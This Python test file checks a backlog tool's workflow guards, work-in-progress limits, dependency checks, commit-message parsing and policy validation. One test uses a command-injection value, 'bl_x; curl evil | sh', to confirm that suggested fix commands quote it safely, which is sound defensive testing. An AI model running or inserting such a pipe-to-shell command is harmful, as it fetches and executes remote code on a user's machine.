"""Guards, limits of work in progress and dependencies: what each asks for, and what it leaves alone."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backlogtool.app import packaged
from backlogtool.codec.policy import Layer, load
from backlogtool.codec.said import says_why
from backlogtool.domain import body, dependencies, limits
from backlogtool.domain.finding import Finding, few
from backlogtool.domain.guards import REQUIREMENTS, Move, check, path_of
from backlogtool.domain.item import Item
from backlogtool.domain.limits import Place, place_of
from backlogtool.domain.merge import Side, moves
from backlogtool.domain.policy import Policy
from backlogtool.domain.workflow import Change
from tests import strategies as some
from tests.domain.samples import item
from tests.test_generation import policy

OTHER = "bl_52c7050367b7"
STATUSES = ("open", "in_progress", "blocked", "done", "canceled")
TICKED = "## Acceptance Criteria\n\n- [x] first"


def guarded(keys: str, more: str = "") -> Policy:
    return policy(f"workflow:\n  guards:\n    - {{name: the_guard, to: [done], {keys}}}\n{more}")


def asked(rules: Policy, path: tuple[str, ...] = ("in_progress", "done"), **values: Any) -> list[Finding]:
    """What is missing for a move of the item, which has these values."""
    beside = {name: values.pop(name) for name in ("commented", "role", "found") if name in values}
    found: Mapping[str, Item] = beside.pop("found", {})
    after = item(status=path[-1], **values)
    return check(Move(item(status=path[0]), after, path, **beside), rules, found.get)


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, [str(one) for one in findings]
    return findings[0]


# --- criteria


@pytest.mark.parametrize(
    ("text", "missing"),
    [
        (TICKED, ""),
        ("", "it has no acceptance criteria"),
        ("## Acceptance Criteria\n\nIt works.", "it has no acceptance criteria"),
        ("## Acceptance Criteria\n\n```\n- [x] an example\n```", "it has no acceptance criteria"),
        ("## Plan\n\n- [ ] a box elsewhere\n\n" + TICKED, ""),
        (f"{TICKED}\n- [ ] second", "1 of 2 acceptance criteria are not ticked: 'second'"),
        ("## Acceptance Criteria\n\n- [ ] only", "1 of 1 acceptance criterion is not ticked: 'only'"),
        (
            "## Acceptance Criteria\n\n- [ ] a\n- [ ] b\n* [ ] c\n  + [ ] d\n- [ ] e",
            "5 of 5 acceptance criteria are not ticked: 'a', 'b', 'c' and 2 more",
        ),
        (f"{TICKED}\n\n```\n- [ ] an example\n```", ""),
        ("### acceptance criteria:\n\n- [x] a\n\n#### More\n\n- [ ] b\n\n### Notes\n\n- [ ] c", "'b'"),
        ("# ACCEPTANCE CRITERIA #\n\n- [ ] a", "'a'"),
        ("**Acceptance Criteria:**\n- [ ] a\n- [x] b\n\n**Relevant Files:**\n- [ ] c", "1 of 2"),
        (f"{TICKED}\n\n## Notes\n\n## Acceptance criteria\n\n- [ ] again", "'again'"),
        (f"{TICKED}\n\n# Title\n\n- [ ] elsewhere", ""),
    ],
)
def test_every_box_of_the_acceptance_criteria_must_be_ticked(text: str, missing: str) -> None:
    """R-276: fenced code holds no box, and headings count whatever their level and letters."""
    found = asked(guarded("require: [criteria]"), description=text)
    if not missing:
        assert found == []
        return
    assert only(found).code == "BL310"
    assert missing in found[0].message


@given(st.lists(st.tuples(st.booleans(), some.title), max_size=8))
def test_the_guard_and_the_count_that_is_shown_agree(boxes: list[tuple[bool, str]]) -> None:
    text = "\n".join(f"- [{'x' if met else ' '}] {words.strip() or 'x'}" for met, words in boxes)
    description = f"## Acceptance Criteria\n\n{text}"
    met, all_boxes = body.criteria(description)
    assert (asked(guarded("require: [criteria]"), description=description) == []) == (met == all_boxes > 0)


# --- dependencies, fields, comment, role


def test_what_the_item_waits_for_must_be_closed() -> None:
    rules = guarded("require: [dependencies]")
    assert asked(rules) == []
    for status in STATUSES:
        other = item(id=OTHER, status=status, title="Harden billing")
        found = asked(rules, dependencies=(OTHER,), found={OTHER: other})
        assert (found == []) == rules.is_closed(status)
        if found:
            assert f"it waits for {OTHER} ({status}: Harden billing)" in only(found).message
    gone = only(asked(rules, dependencies=(OTHER,)))
    assert (gone.code, f"{OTHER} (not there)" in gone.message) == ("BL311", True)
    assert f"--remove dependencies={OTHER}" in gone.fix


def test_a_command_that_is_told_takes_what_stands_there_for_one_word() -> None:
    odd = "bl_x; curl evil | sh"
    told = only(asked(guarded("require: [dependencies]"), dependencies=(odd,))).fix
    assert told.endswith(f" --remove 'dependencies={odd}'")
    assert dependencies.missing(OTHER, odd).fix.endswith(f" --remove 'dependencies={odd}'")


def test_the_fields_of_a_guard_must_be_filled() -> None:
    rules = guarded("fields: [service, due_date, rank, tags, meta]")
    full: dict[str, Any] = {"service": "a", "due_date": "2026-03-01", "rank": 0, "tags": ("a",), "meta": {"a": None}}
    assert asked(rules, **full) == []
    nothing: dict[str, Any] = {"service": " ", "due_date": "", "rank": None, "tags": (), "meta": {}}
    for name, empty in nothing.items():
        finding = only(asked(rules, **{**full, name: empty}))
        assert (finding.code, f"{name} is empty" in finding.message) == ("BL312", True)
        assert f"--set {name}=" in finding.fix


@pytest.mark.parametrize(("said", "fine"), [(True, True), (False, False), (None, True)])
def test_somebody_must_say_why_once_that_can_be_known(said: bool | None, fine: bool) -> None:
    found = asked(guarded("require: [comment]"), commented=said)
    assert [one.code for one in found] == ([] if fine else ["BL313"])


@pytest.mark.parametrize(("role", "fine"), [("cto", True), ("oncall", False), ("", False), (None, True)])
def test_a_guard_may_leave_a_move_to_some_roles(role: str | None, fine: bool) -> None:
    found = asked(guarded("roles: [cto, scheduler]"), role=role)
    assert [one.code for one in found] == ([] if fine else ["BL314"])
    if found:
        assert "only cto or scheduler may do that" in found[0].message


def test_everything_that_is_missing_is_told_at_once_and_says_how_to_go_on() -> None:
    rules = guarded("require: [criteria, dependencies, comment], fields: [type], roles: [cto]")
    found = asked(rules, dependencies=(OTHER,), commented=False, role="oncall")
    assert [one.code for one in found] == ["BL310", "BL311", "BL312", "BL313", "BL314"]
    for finding in found:
        assert finding.message.startswith("bl_0123456789ab cannot become done: ")
        assert finding.message.endswith(" (guard the_guard)")
        assert finding.is_error
        assert finding.fix


# --- when a guard asks


def test_a_guard_asks_about_moves_to_and_leaving_the_statuses_it_names() -> None:
    guards = "{name: a, to: [done], leaving: [blocked], fields: [type]}, {name: b, fields: [type]}"
    rules = policy(f"workflow: {{guards: [{guards}]}}")
    assert len(asked(rules, ("in_progress", "done"))) == 1
    assert len(asked(rules, ("blocked", "done"))) == 2
    assert len(asked(rules, ("blocked", "open"))) == 1
    assert asked(rules, ("done",)) == []


def test_a_guard_looks_only_at_the_items_it_is_for_as_they_were_or_are() -> None:
    rules = guarded("when: {priority: [P0, P1], category: [security]}, fields: [type]")
    move = ("in_progress", "done")
    assert len(asked(rules, move)) == 1
    assert len(asked(rules, move, priority="P3")) == 1, "the same step made it less urgent"
    before, after = item(status="in_progress", category=""), item(status="done", category="refactor")
    assert check(Move(before, after, move), rules, lambda _: None) == []


def test_every_status_on_a_folded_way_is_asked_about_once() -> None:
    guards = "{name: a, to: [in_progress], fields: [type]}, {name: b, to: [done, blocked], fields: [type]}"
    rules = policy(f"workflow: {{guards: [{guards}]}}")
    found = asked(rules, ("open", "in_progress", "blocked", "in_progress", "done"))
    assert [one.message.partition(":")[0] for one in found] == [
        "bl_0123456789ab cannot become in_progress",
        "bl_0123456789ab cannot become blocked",
    ]


def _path(before: str, after: str, rules: Policy | None = None, **more: Any) -> tuple[str, ...]:
    return path_of(Change(item(status=before), item(status=after), **more), rules or policy())


def test_what_stays_is_undone_or_is_no_legal_step_is_not_asked_about() -> None:
    for status in STATUSES:
        assert _path(status, status) == ()
        assert _path(status, "done", undo=True) == ()
    assert _path("in_progress", "done") == ("in_progress", "done")
    assert _path("open", "done") == ()
    assert path_of(Change(None, item(status="done")), policy()) == ()
    assert path_of(Change(item(), None), policy()) == ()


def test_a_folded_move_leads_where_its_commits_claim_or_else_the_shortest_way_that_is_trusted() -> None:
    way = ("open", "in_progress", "blocked", "in_progress", "done")
    assert _path("open", "done", squashed=True, path=way) == way
    assert _path("open", "done", path=way) == ()
    assert _path("open", "done", squashed=True) == ()
    assert _path("open", "done", squashed=True, path=("open", "done")) == ()
    assert _path("in_progress", "done", squashed=True, path=("open", "blocked")) == ("in_progress", "done")
    trusting = policy("workflow: {squashed: path}")
    assert _path("open", "done", trusting, squashed=True) == ("open", "in_progress", "done")
    assert _path("done", "open", trusting, squashed=True) == ()
    new = Change(None, item(status="done"), squashed=True, path=("open", "in_progress", "done"))
    assert path_of(new, policy()) == ("open", "in_progress", "done")


def test_a_merge_moves_what_no_side_brought() -> None:
    base, mine, theirs = item(), item(status="in_progress"), item(owner="bob")
    sides = [Side(mine, origins=(base,)), Side(theirs, origins=(base,))]
    assert moves(sides, mine._replace(owner="bob"), policy()) == []
    made = moves(sides, item(status="done", owner="bob"), policy())
    assert {one.before.status for one in made if one.before} == {"in_progress"}
    assert all(path_of(one, policy()) == ("in_progress", "done") for one in made)
    unknown = [Side(mine), Side(item(status="blocked"))]
    told = [
        (one.before.status, one.after.status)
        for one in moves(unknown, item(status="blocked"), policy())
        if one.before and one.after
    ]
    assert told == [("in_progress", "blocked")], "an item that others made anew has not brought it"
    stale = [Side(item(status="blocked"), origins=(mine,)), Side(mine, origins=(mine,))]
    assert {one.before.status for one in moves(stale, mine, policy()) if one.before} == {"blocked"}, "it is behind"
    gone = [Side(mine, gone=True, origins=(base,)), Side(base, origins=(base,))]
    assert [one.before.status for one in moves(gone, mine, policy()) if one.before] == ["open"], "it is not there"
    assert moves(sides, None, policy()) == []
    assert moves([], mine, policy()) == []


# --- saying why

OWN = "backlog: {summary}"
TRAILERS = "Backlog-Item: bl_0123456789ab\nBacklog-Event: status_change\nBacklog-Actor: ann"


@pytest.mark.parametrize(
    ("message", "says"),
    [
        ("done", False),
        ("done\n\n", False),
        ("done\n\nThe numbers are in.", True),
        (f"backlog: x\n\n{TRAILERS}\n", False),
        (f"backlog: x\n\nThe numbers are in.\n\n{TRAILERS}\n", True),
        ("done\n\nSigned-off-by: Ann <a@example.org>\nCo-authored-by: B <b@example.org>", False),
        (f"Close it (#12)\n\n* backlog: bl_0123456789ab in_progress -> done\n\n{TRAILERS}\n\n* fix", False),
        (f"Close it (#12)\n\n* backlog: bl_x done\n\nThe numbers are in.\n\n{TRAILERS}", True),
        (
            f"Squashed commit of the following:\n\ncommit {'a' * 40}\nAuthor: A <a@example.org>\n"
            f"Date:   Mon Feb 16 06:20:00 2026 +0000\n\n    backlog: bl_x done\n",
            False,
        ),
        ("Merge branch 'side'\n", False),
        ("Merge branch 'side'\n\n# Conflicts:\n#\titems/x.md\n", False),
        ("", False),
    ],
)
def test_words_below_the_subject_say_why_and_what_tools_write_there_does_not(message: str, says: bool) -> None:
    assert says_why(message, OWN) is says


@given(st.text(), st.sampled_from([OWN, "{summary}", "{summary} [skip ci]", "(.*{summary}"]))
def test_any_message_is_answered(message: str, subject: str) -> None:
    assert says_why(message, subject) in (True, False)


# --- limits

LIMITS = "workflow: {wip_limits: {in_progress: {total: 3, per_owner: 2}, blocked: {per_owner: 1}}}"
places = st.lists(st.sampled_from("abc"), max_size=6).map(
    lambda owners: [Place("in_progress", f"bl_{at}", owner) for at, owner in enumerate(owners)]
)


@given(places)
def test_a_limit_is_exceeded_by_more_than_it_allows(held: list[Place]) -> None:
    told = limits.exceeded("in_progress", held, policy(LIMITS))
    owners = [one.owner for one in held]
    assert {one.owner for one in told} == {
        *({""} if len(held) > 3 else ()),
        *(owner for owner in "abc" if owners.count(owner) > 2),
    }
    for one in told:
        assert len(one.places) == (owners.count(one.owner) if one.owner else len(held))
        (first, *others) = limits.over_limits([(one, one.places)], asked=False)
        assert first.message == f"{one.message}, with {few([place.item_id for place in one.places])}"
        assert [finding.item for finding in (first, *others)] == [place.item_id for place in one.places]
        assert {finding.code for finding in (first, *others)} == {"BL315"}
        assert all(finding.message.endswith(f"see {first.item}") and not finding.fix for finding in others)


def test_only_a_status_with_a_limit_has_places() -> None:
    rules = policy(LIMITS)
    assert place_of(item(), rules) is None
    assert place_of(None, rules) is None
    assert place_of(item(status="blocked"), rules) == Place("blocked", item().id, "alice")


def test_another_owner_takes_a_place_of_that_owner_only() -> None:
    before, now = Place("blocked", "bl_1", "a"), Place("blocked", "bl_1", "b")
    together, of_owner = limits.Exceeded("", (now,), 1), limits.Exceeded("", (now,), 1, "b")
    assert limits.is_taken(now, None, together)
    assert limits.is_taken(now, Place("in_progress", "bl_1", "b"), together)
    assert limits.is_taken(now, before, of_owner)
    assert not limits.is_taken(now, before, together)
    assert not limits.is_taken(now, now, of_owner)


# --- dependencies as they stand

NAMES = [f"bl_{number:012x}" for number in range(6)]
graphs = st.dictionaries(
    st.sampled_from(NAMES[:5]),
    st.lists(st.sampled_from(NAMES), max_size=3, unique=True).map(lambda one: tuple(sorted(one))),
)


def _reached(needs: Mapping[str, tuple[str, ...]], start: str) -> set[str]:
    seen: set[str] = set()
    waiting = list(needs.get(start, ()))
    while waiting:
        one = waiting.pop()
        if one not in seen:
            seen.add(one)
            waiting += needs.get(one, ())
    return seen


@given(graphs)
def test_an_item_that_waits_for_itself_is_told_and_no_other(needs: dict[str, tuple[str, ...]]) -> None:
    knotted = {one for one in needs if one in _reached(needs, one)}
    told = {one.item for one in dependencies.all_broken(needs, NAMES.__contains__) if one.code == "BL317"}
    assert told <= knotted
    assert bool(told) == bool(knotted)
    for one in needs:
        alone = dependencies.broken(one, needs[one], lambda other: needs.get(other, ()))
        assert [finding.code for finding in alone] == (["BL317"] if one in knotted else [])


@given(graphs)
def test_what_is_not_there_is_told_where_it_is_waited_for(needs: dict[str, tuple[str, ...]]) -> None:
    there = {*needs, NAMES[0]}
    wanted = {(one, other) for one, some_ids in needs.items() for other in some_ids if other not in there}
    told = [one for one in dependencies.all_broken(needs, there.__contains__) if one.code == "BL316"]
    assert {(one.item, one.fix.rpartition("=")[2]) for one in told} == wanted
    assert not any(one.is_error for one in told)


def test_a_long_circle_is_cut_short_and_quickly_found() -> None:
    many = [f"bl_{number:012x}" for number in range(20_000)]
    needs = {one: (many[(at + 1) % len(many)], many[at // 2]) for at, one in enumerate(many)}
    told = dependencies.all_broken(needs, lambda _: True)
    assert told
    assert max(len(one.message) for one in told) < 200


# --- the policy


def broken(text: str) -> list[Finding]:
    packaged_layer = Layer(packaged.policy_text(), "packaged default")
    return list(load([packaged_layer, Layer(text, "policy.yml")]).findings)


@pytest.mark.parametrize(
    ("text", "code", "says"),
    [
        ("guards: [{name: a, to: [dome], fields: [type]}]", "BL403", "dome"),
        ("guards: [{name: a, leaving: [dome], fields: [type]}]", "BL403", "dome"),
        ("guards: [{name: a, fields: [servise]}]", "BL403", "servise"),
        ("guards: [{name: a, roles: [boss]}]", "BL403", "boss"),
        ("guards: [{name: a, require: [criterion]}]", "BL403", "criterion"),
        ("guards: [{name: a, when: {category: [sec]}, fields: [type]}]", "BL403", "sec"),
        ("guards: [{name: a, when: {titel: [x]}, fields: [type]}]", "BL401", "titel"),
        ("guards: [{name: a, form: [open], fields: [type]}]", "BL401", "form"),
        ("guards: [{name: a, to: [done]}]", "BL403", "asks for nothing"),
        ("guards: [{to: [done], fields: [type]}]", "BL402", "name is missing"),
        ("guards: [{name: a, require: []}]", "BL403", "at least one"),
        ("guards: [{name: a, fields: [type]}, {name: a, fields: [rank]}]", "BL403", "stands twice"),
        ("wip_limits: {dome: {total: 1}}", "BL403", "dome"),
        ("wip_limits: {blocked: {total: true}}", "BL402", "whole number"),
        ("wip_limits: {blocked: {total: 0}}", "BL402", "at least 1"),
        ("wip_limits: {blocked: {all: 1}}", "BL401", "all"),
        ("wip_limits: {blocked: {}}", "BL403", "asks for nothing"),
        ("wip_limits: {blocked: 3}", "BL402", "map"),
    ],
)
def test_what_a_guard_or_a_limit_cannot_mean_is_told_at_its_place(text: str, code: str, says: str) -> None:
    found = only(broken(f"workflow:\n  {text}\n"))
    assert (found.code, found.path, found.line) == (code, "policy.yml", 2)
    assert says in found.message


def test_without_a_word_in_the_policy_there_are_none() -> None:
    assert (policy().workflow.guards, policy().workflow.wip_limits) == ((), {})
    assert REQUIREMENTS == ("criteria", "dependencies", "comment")
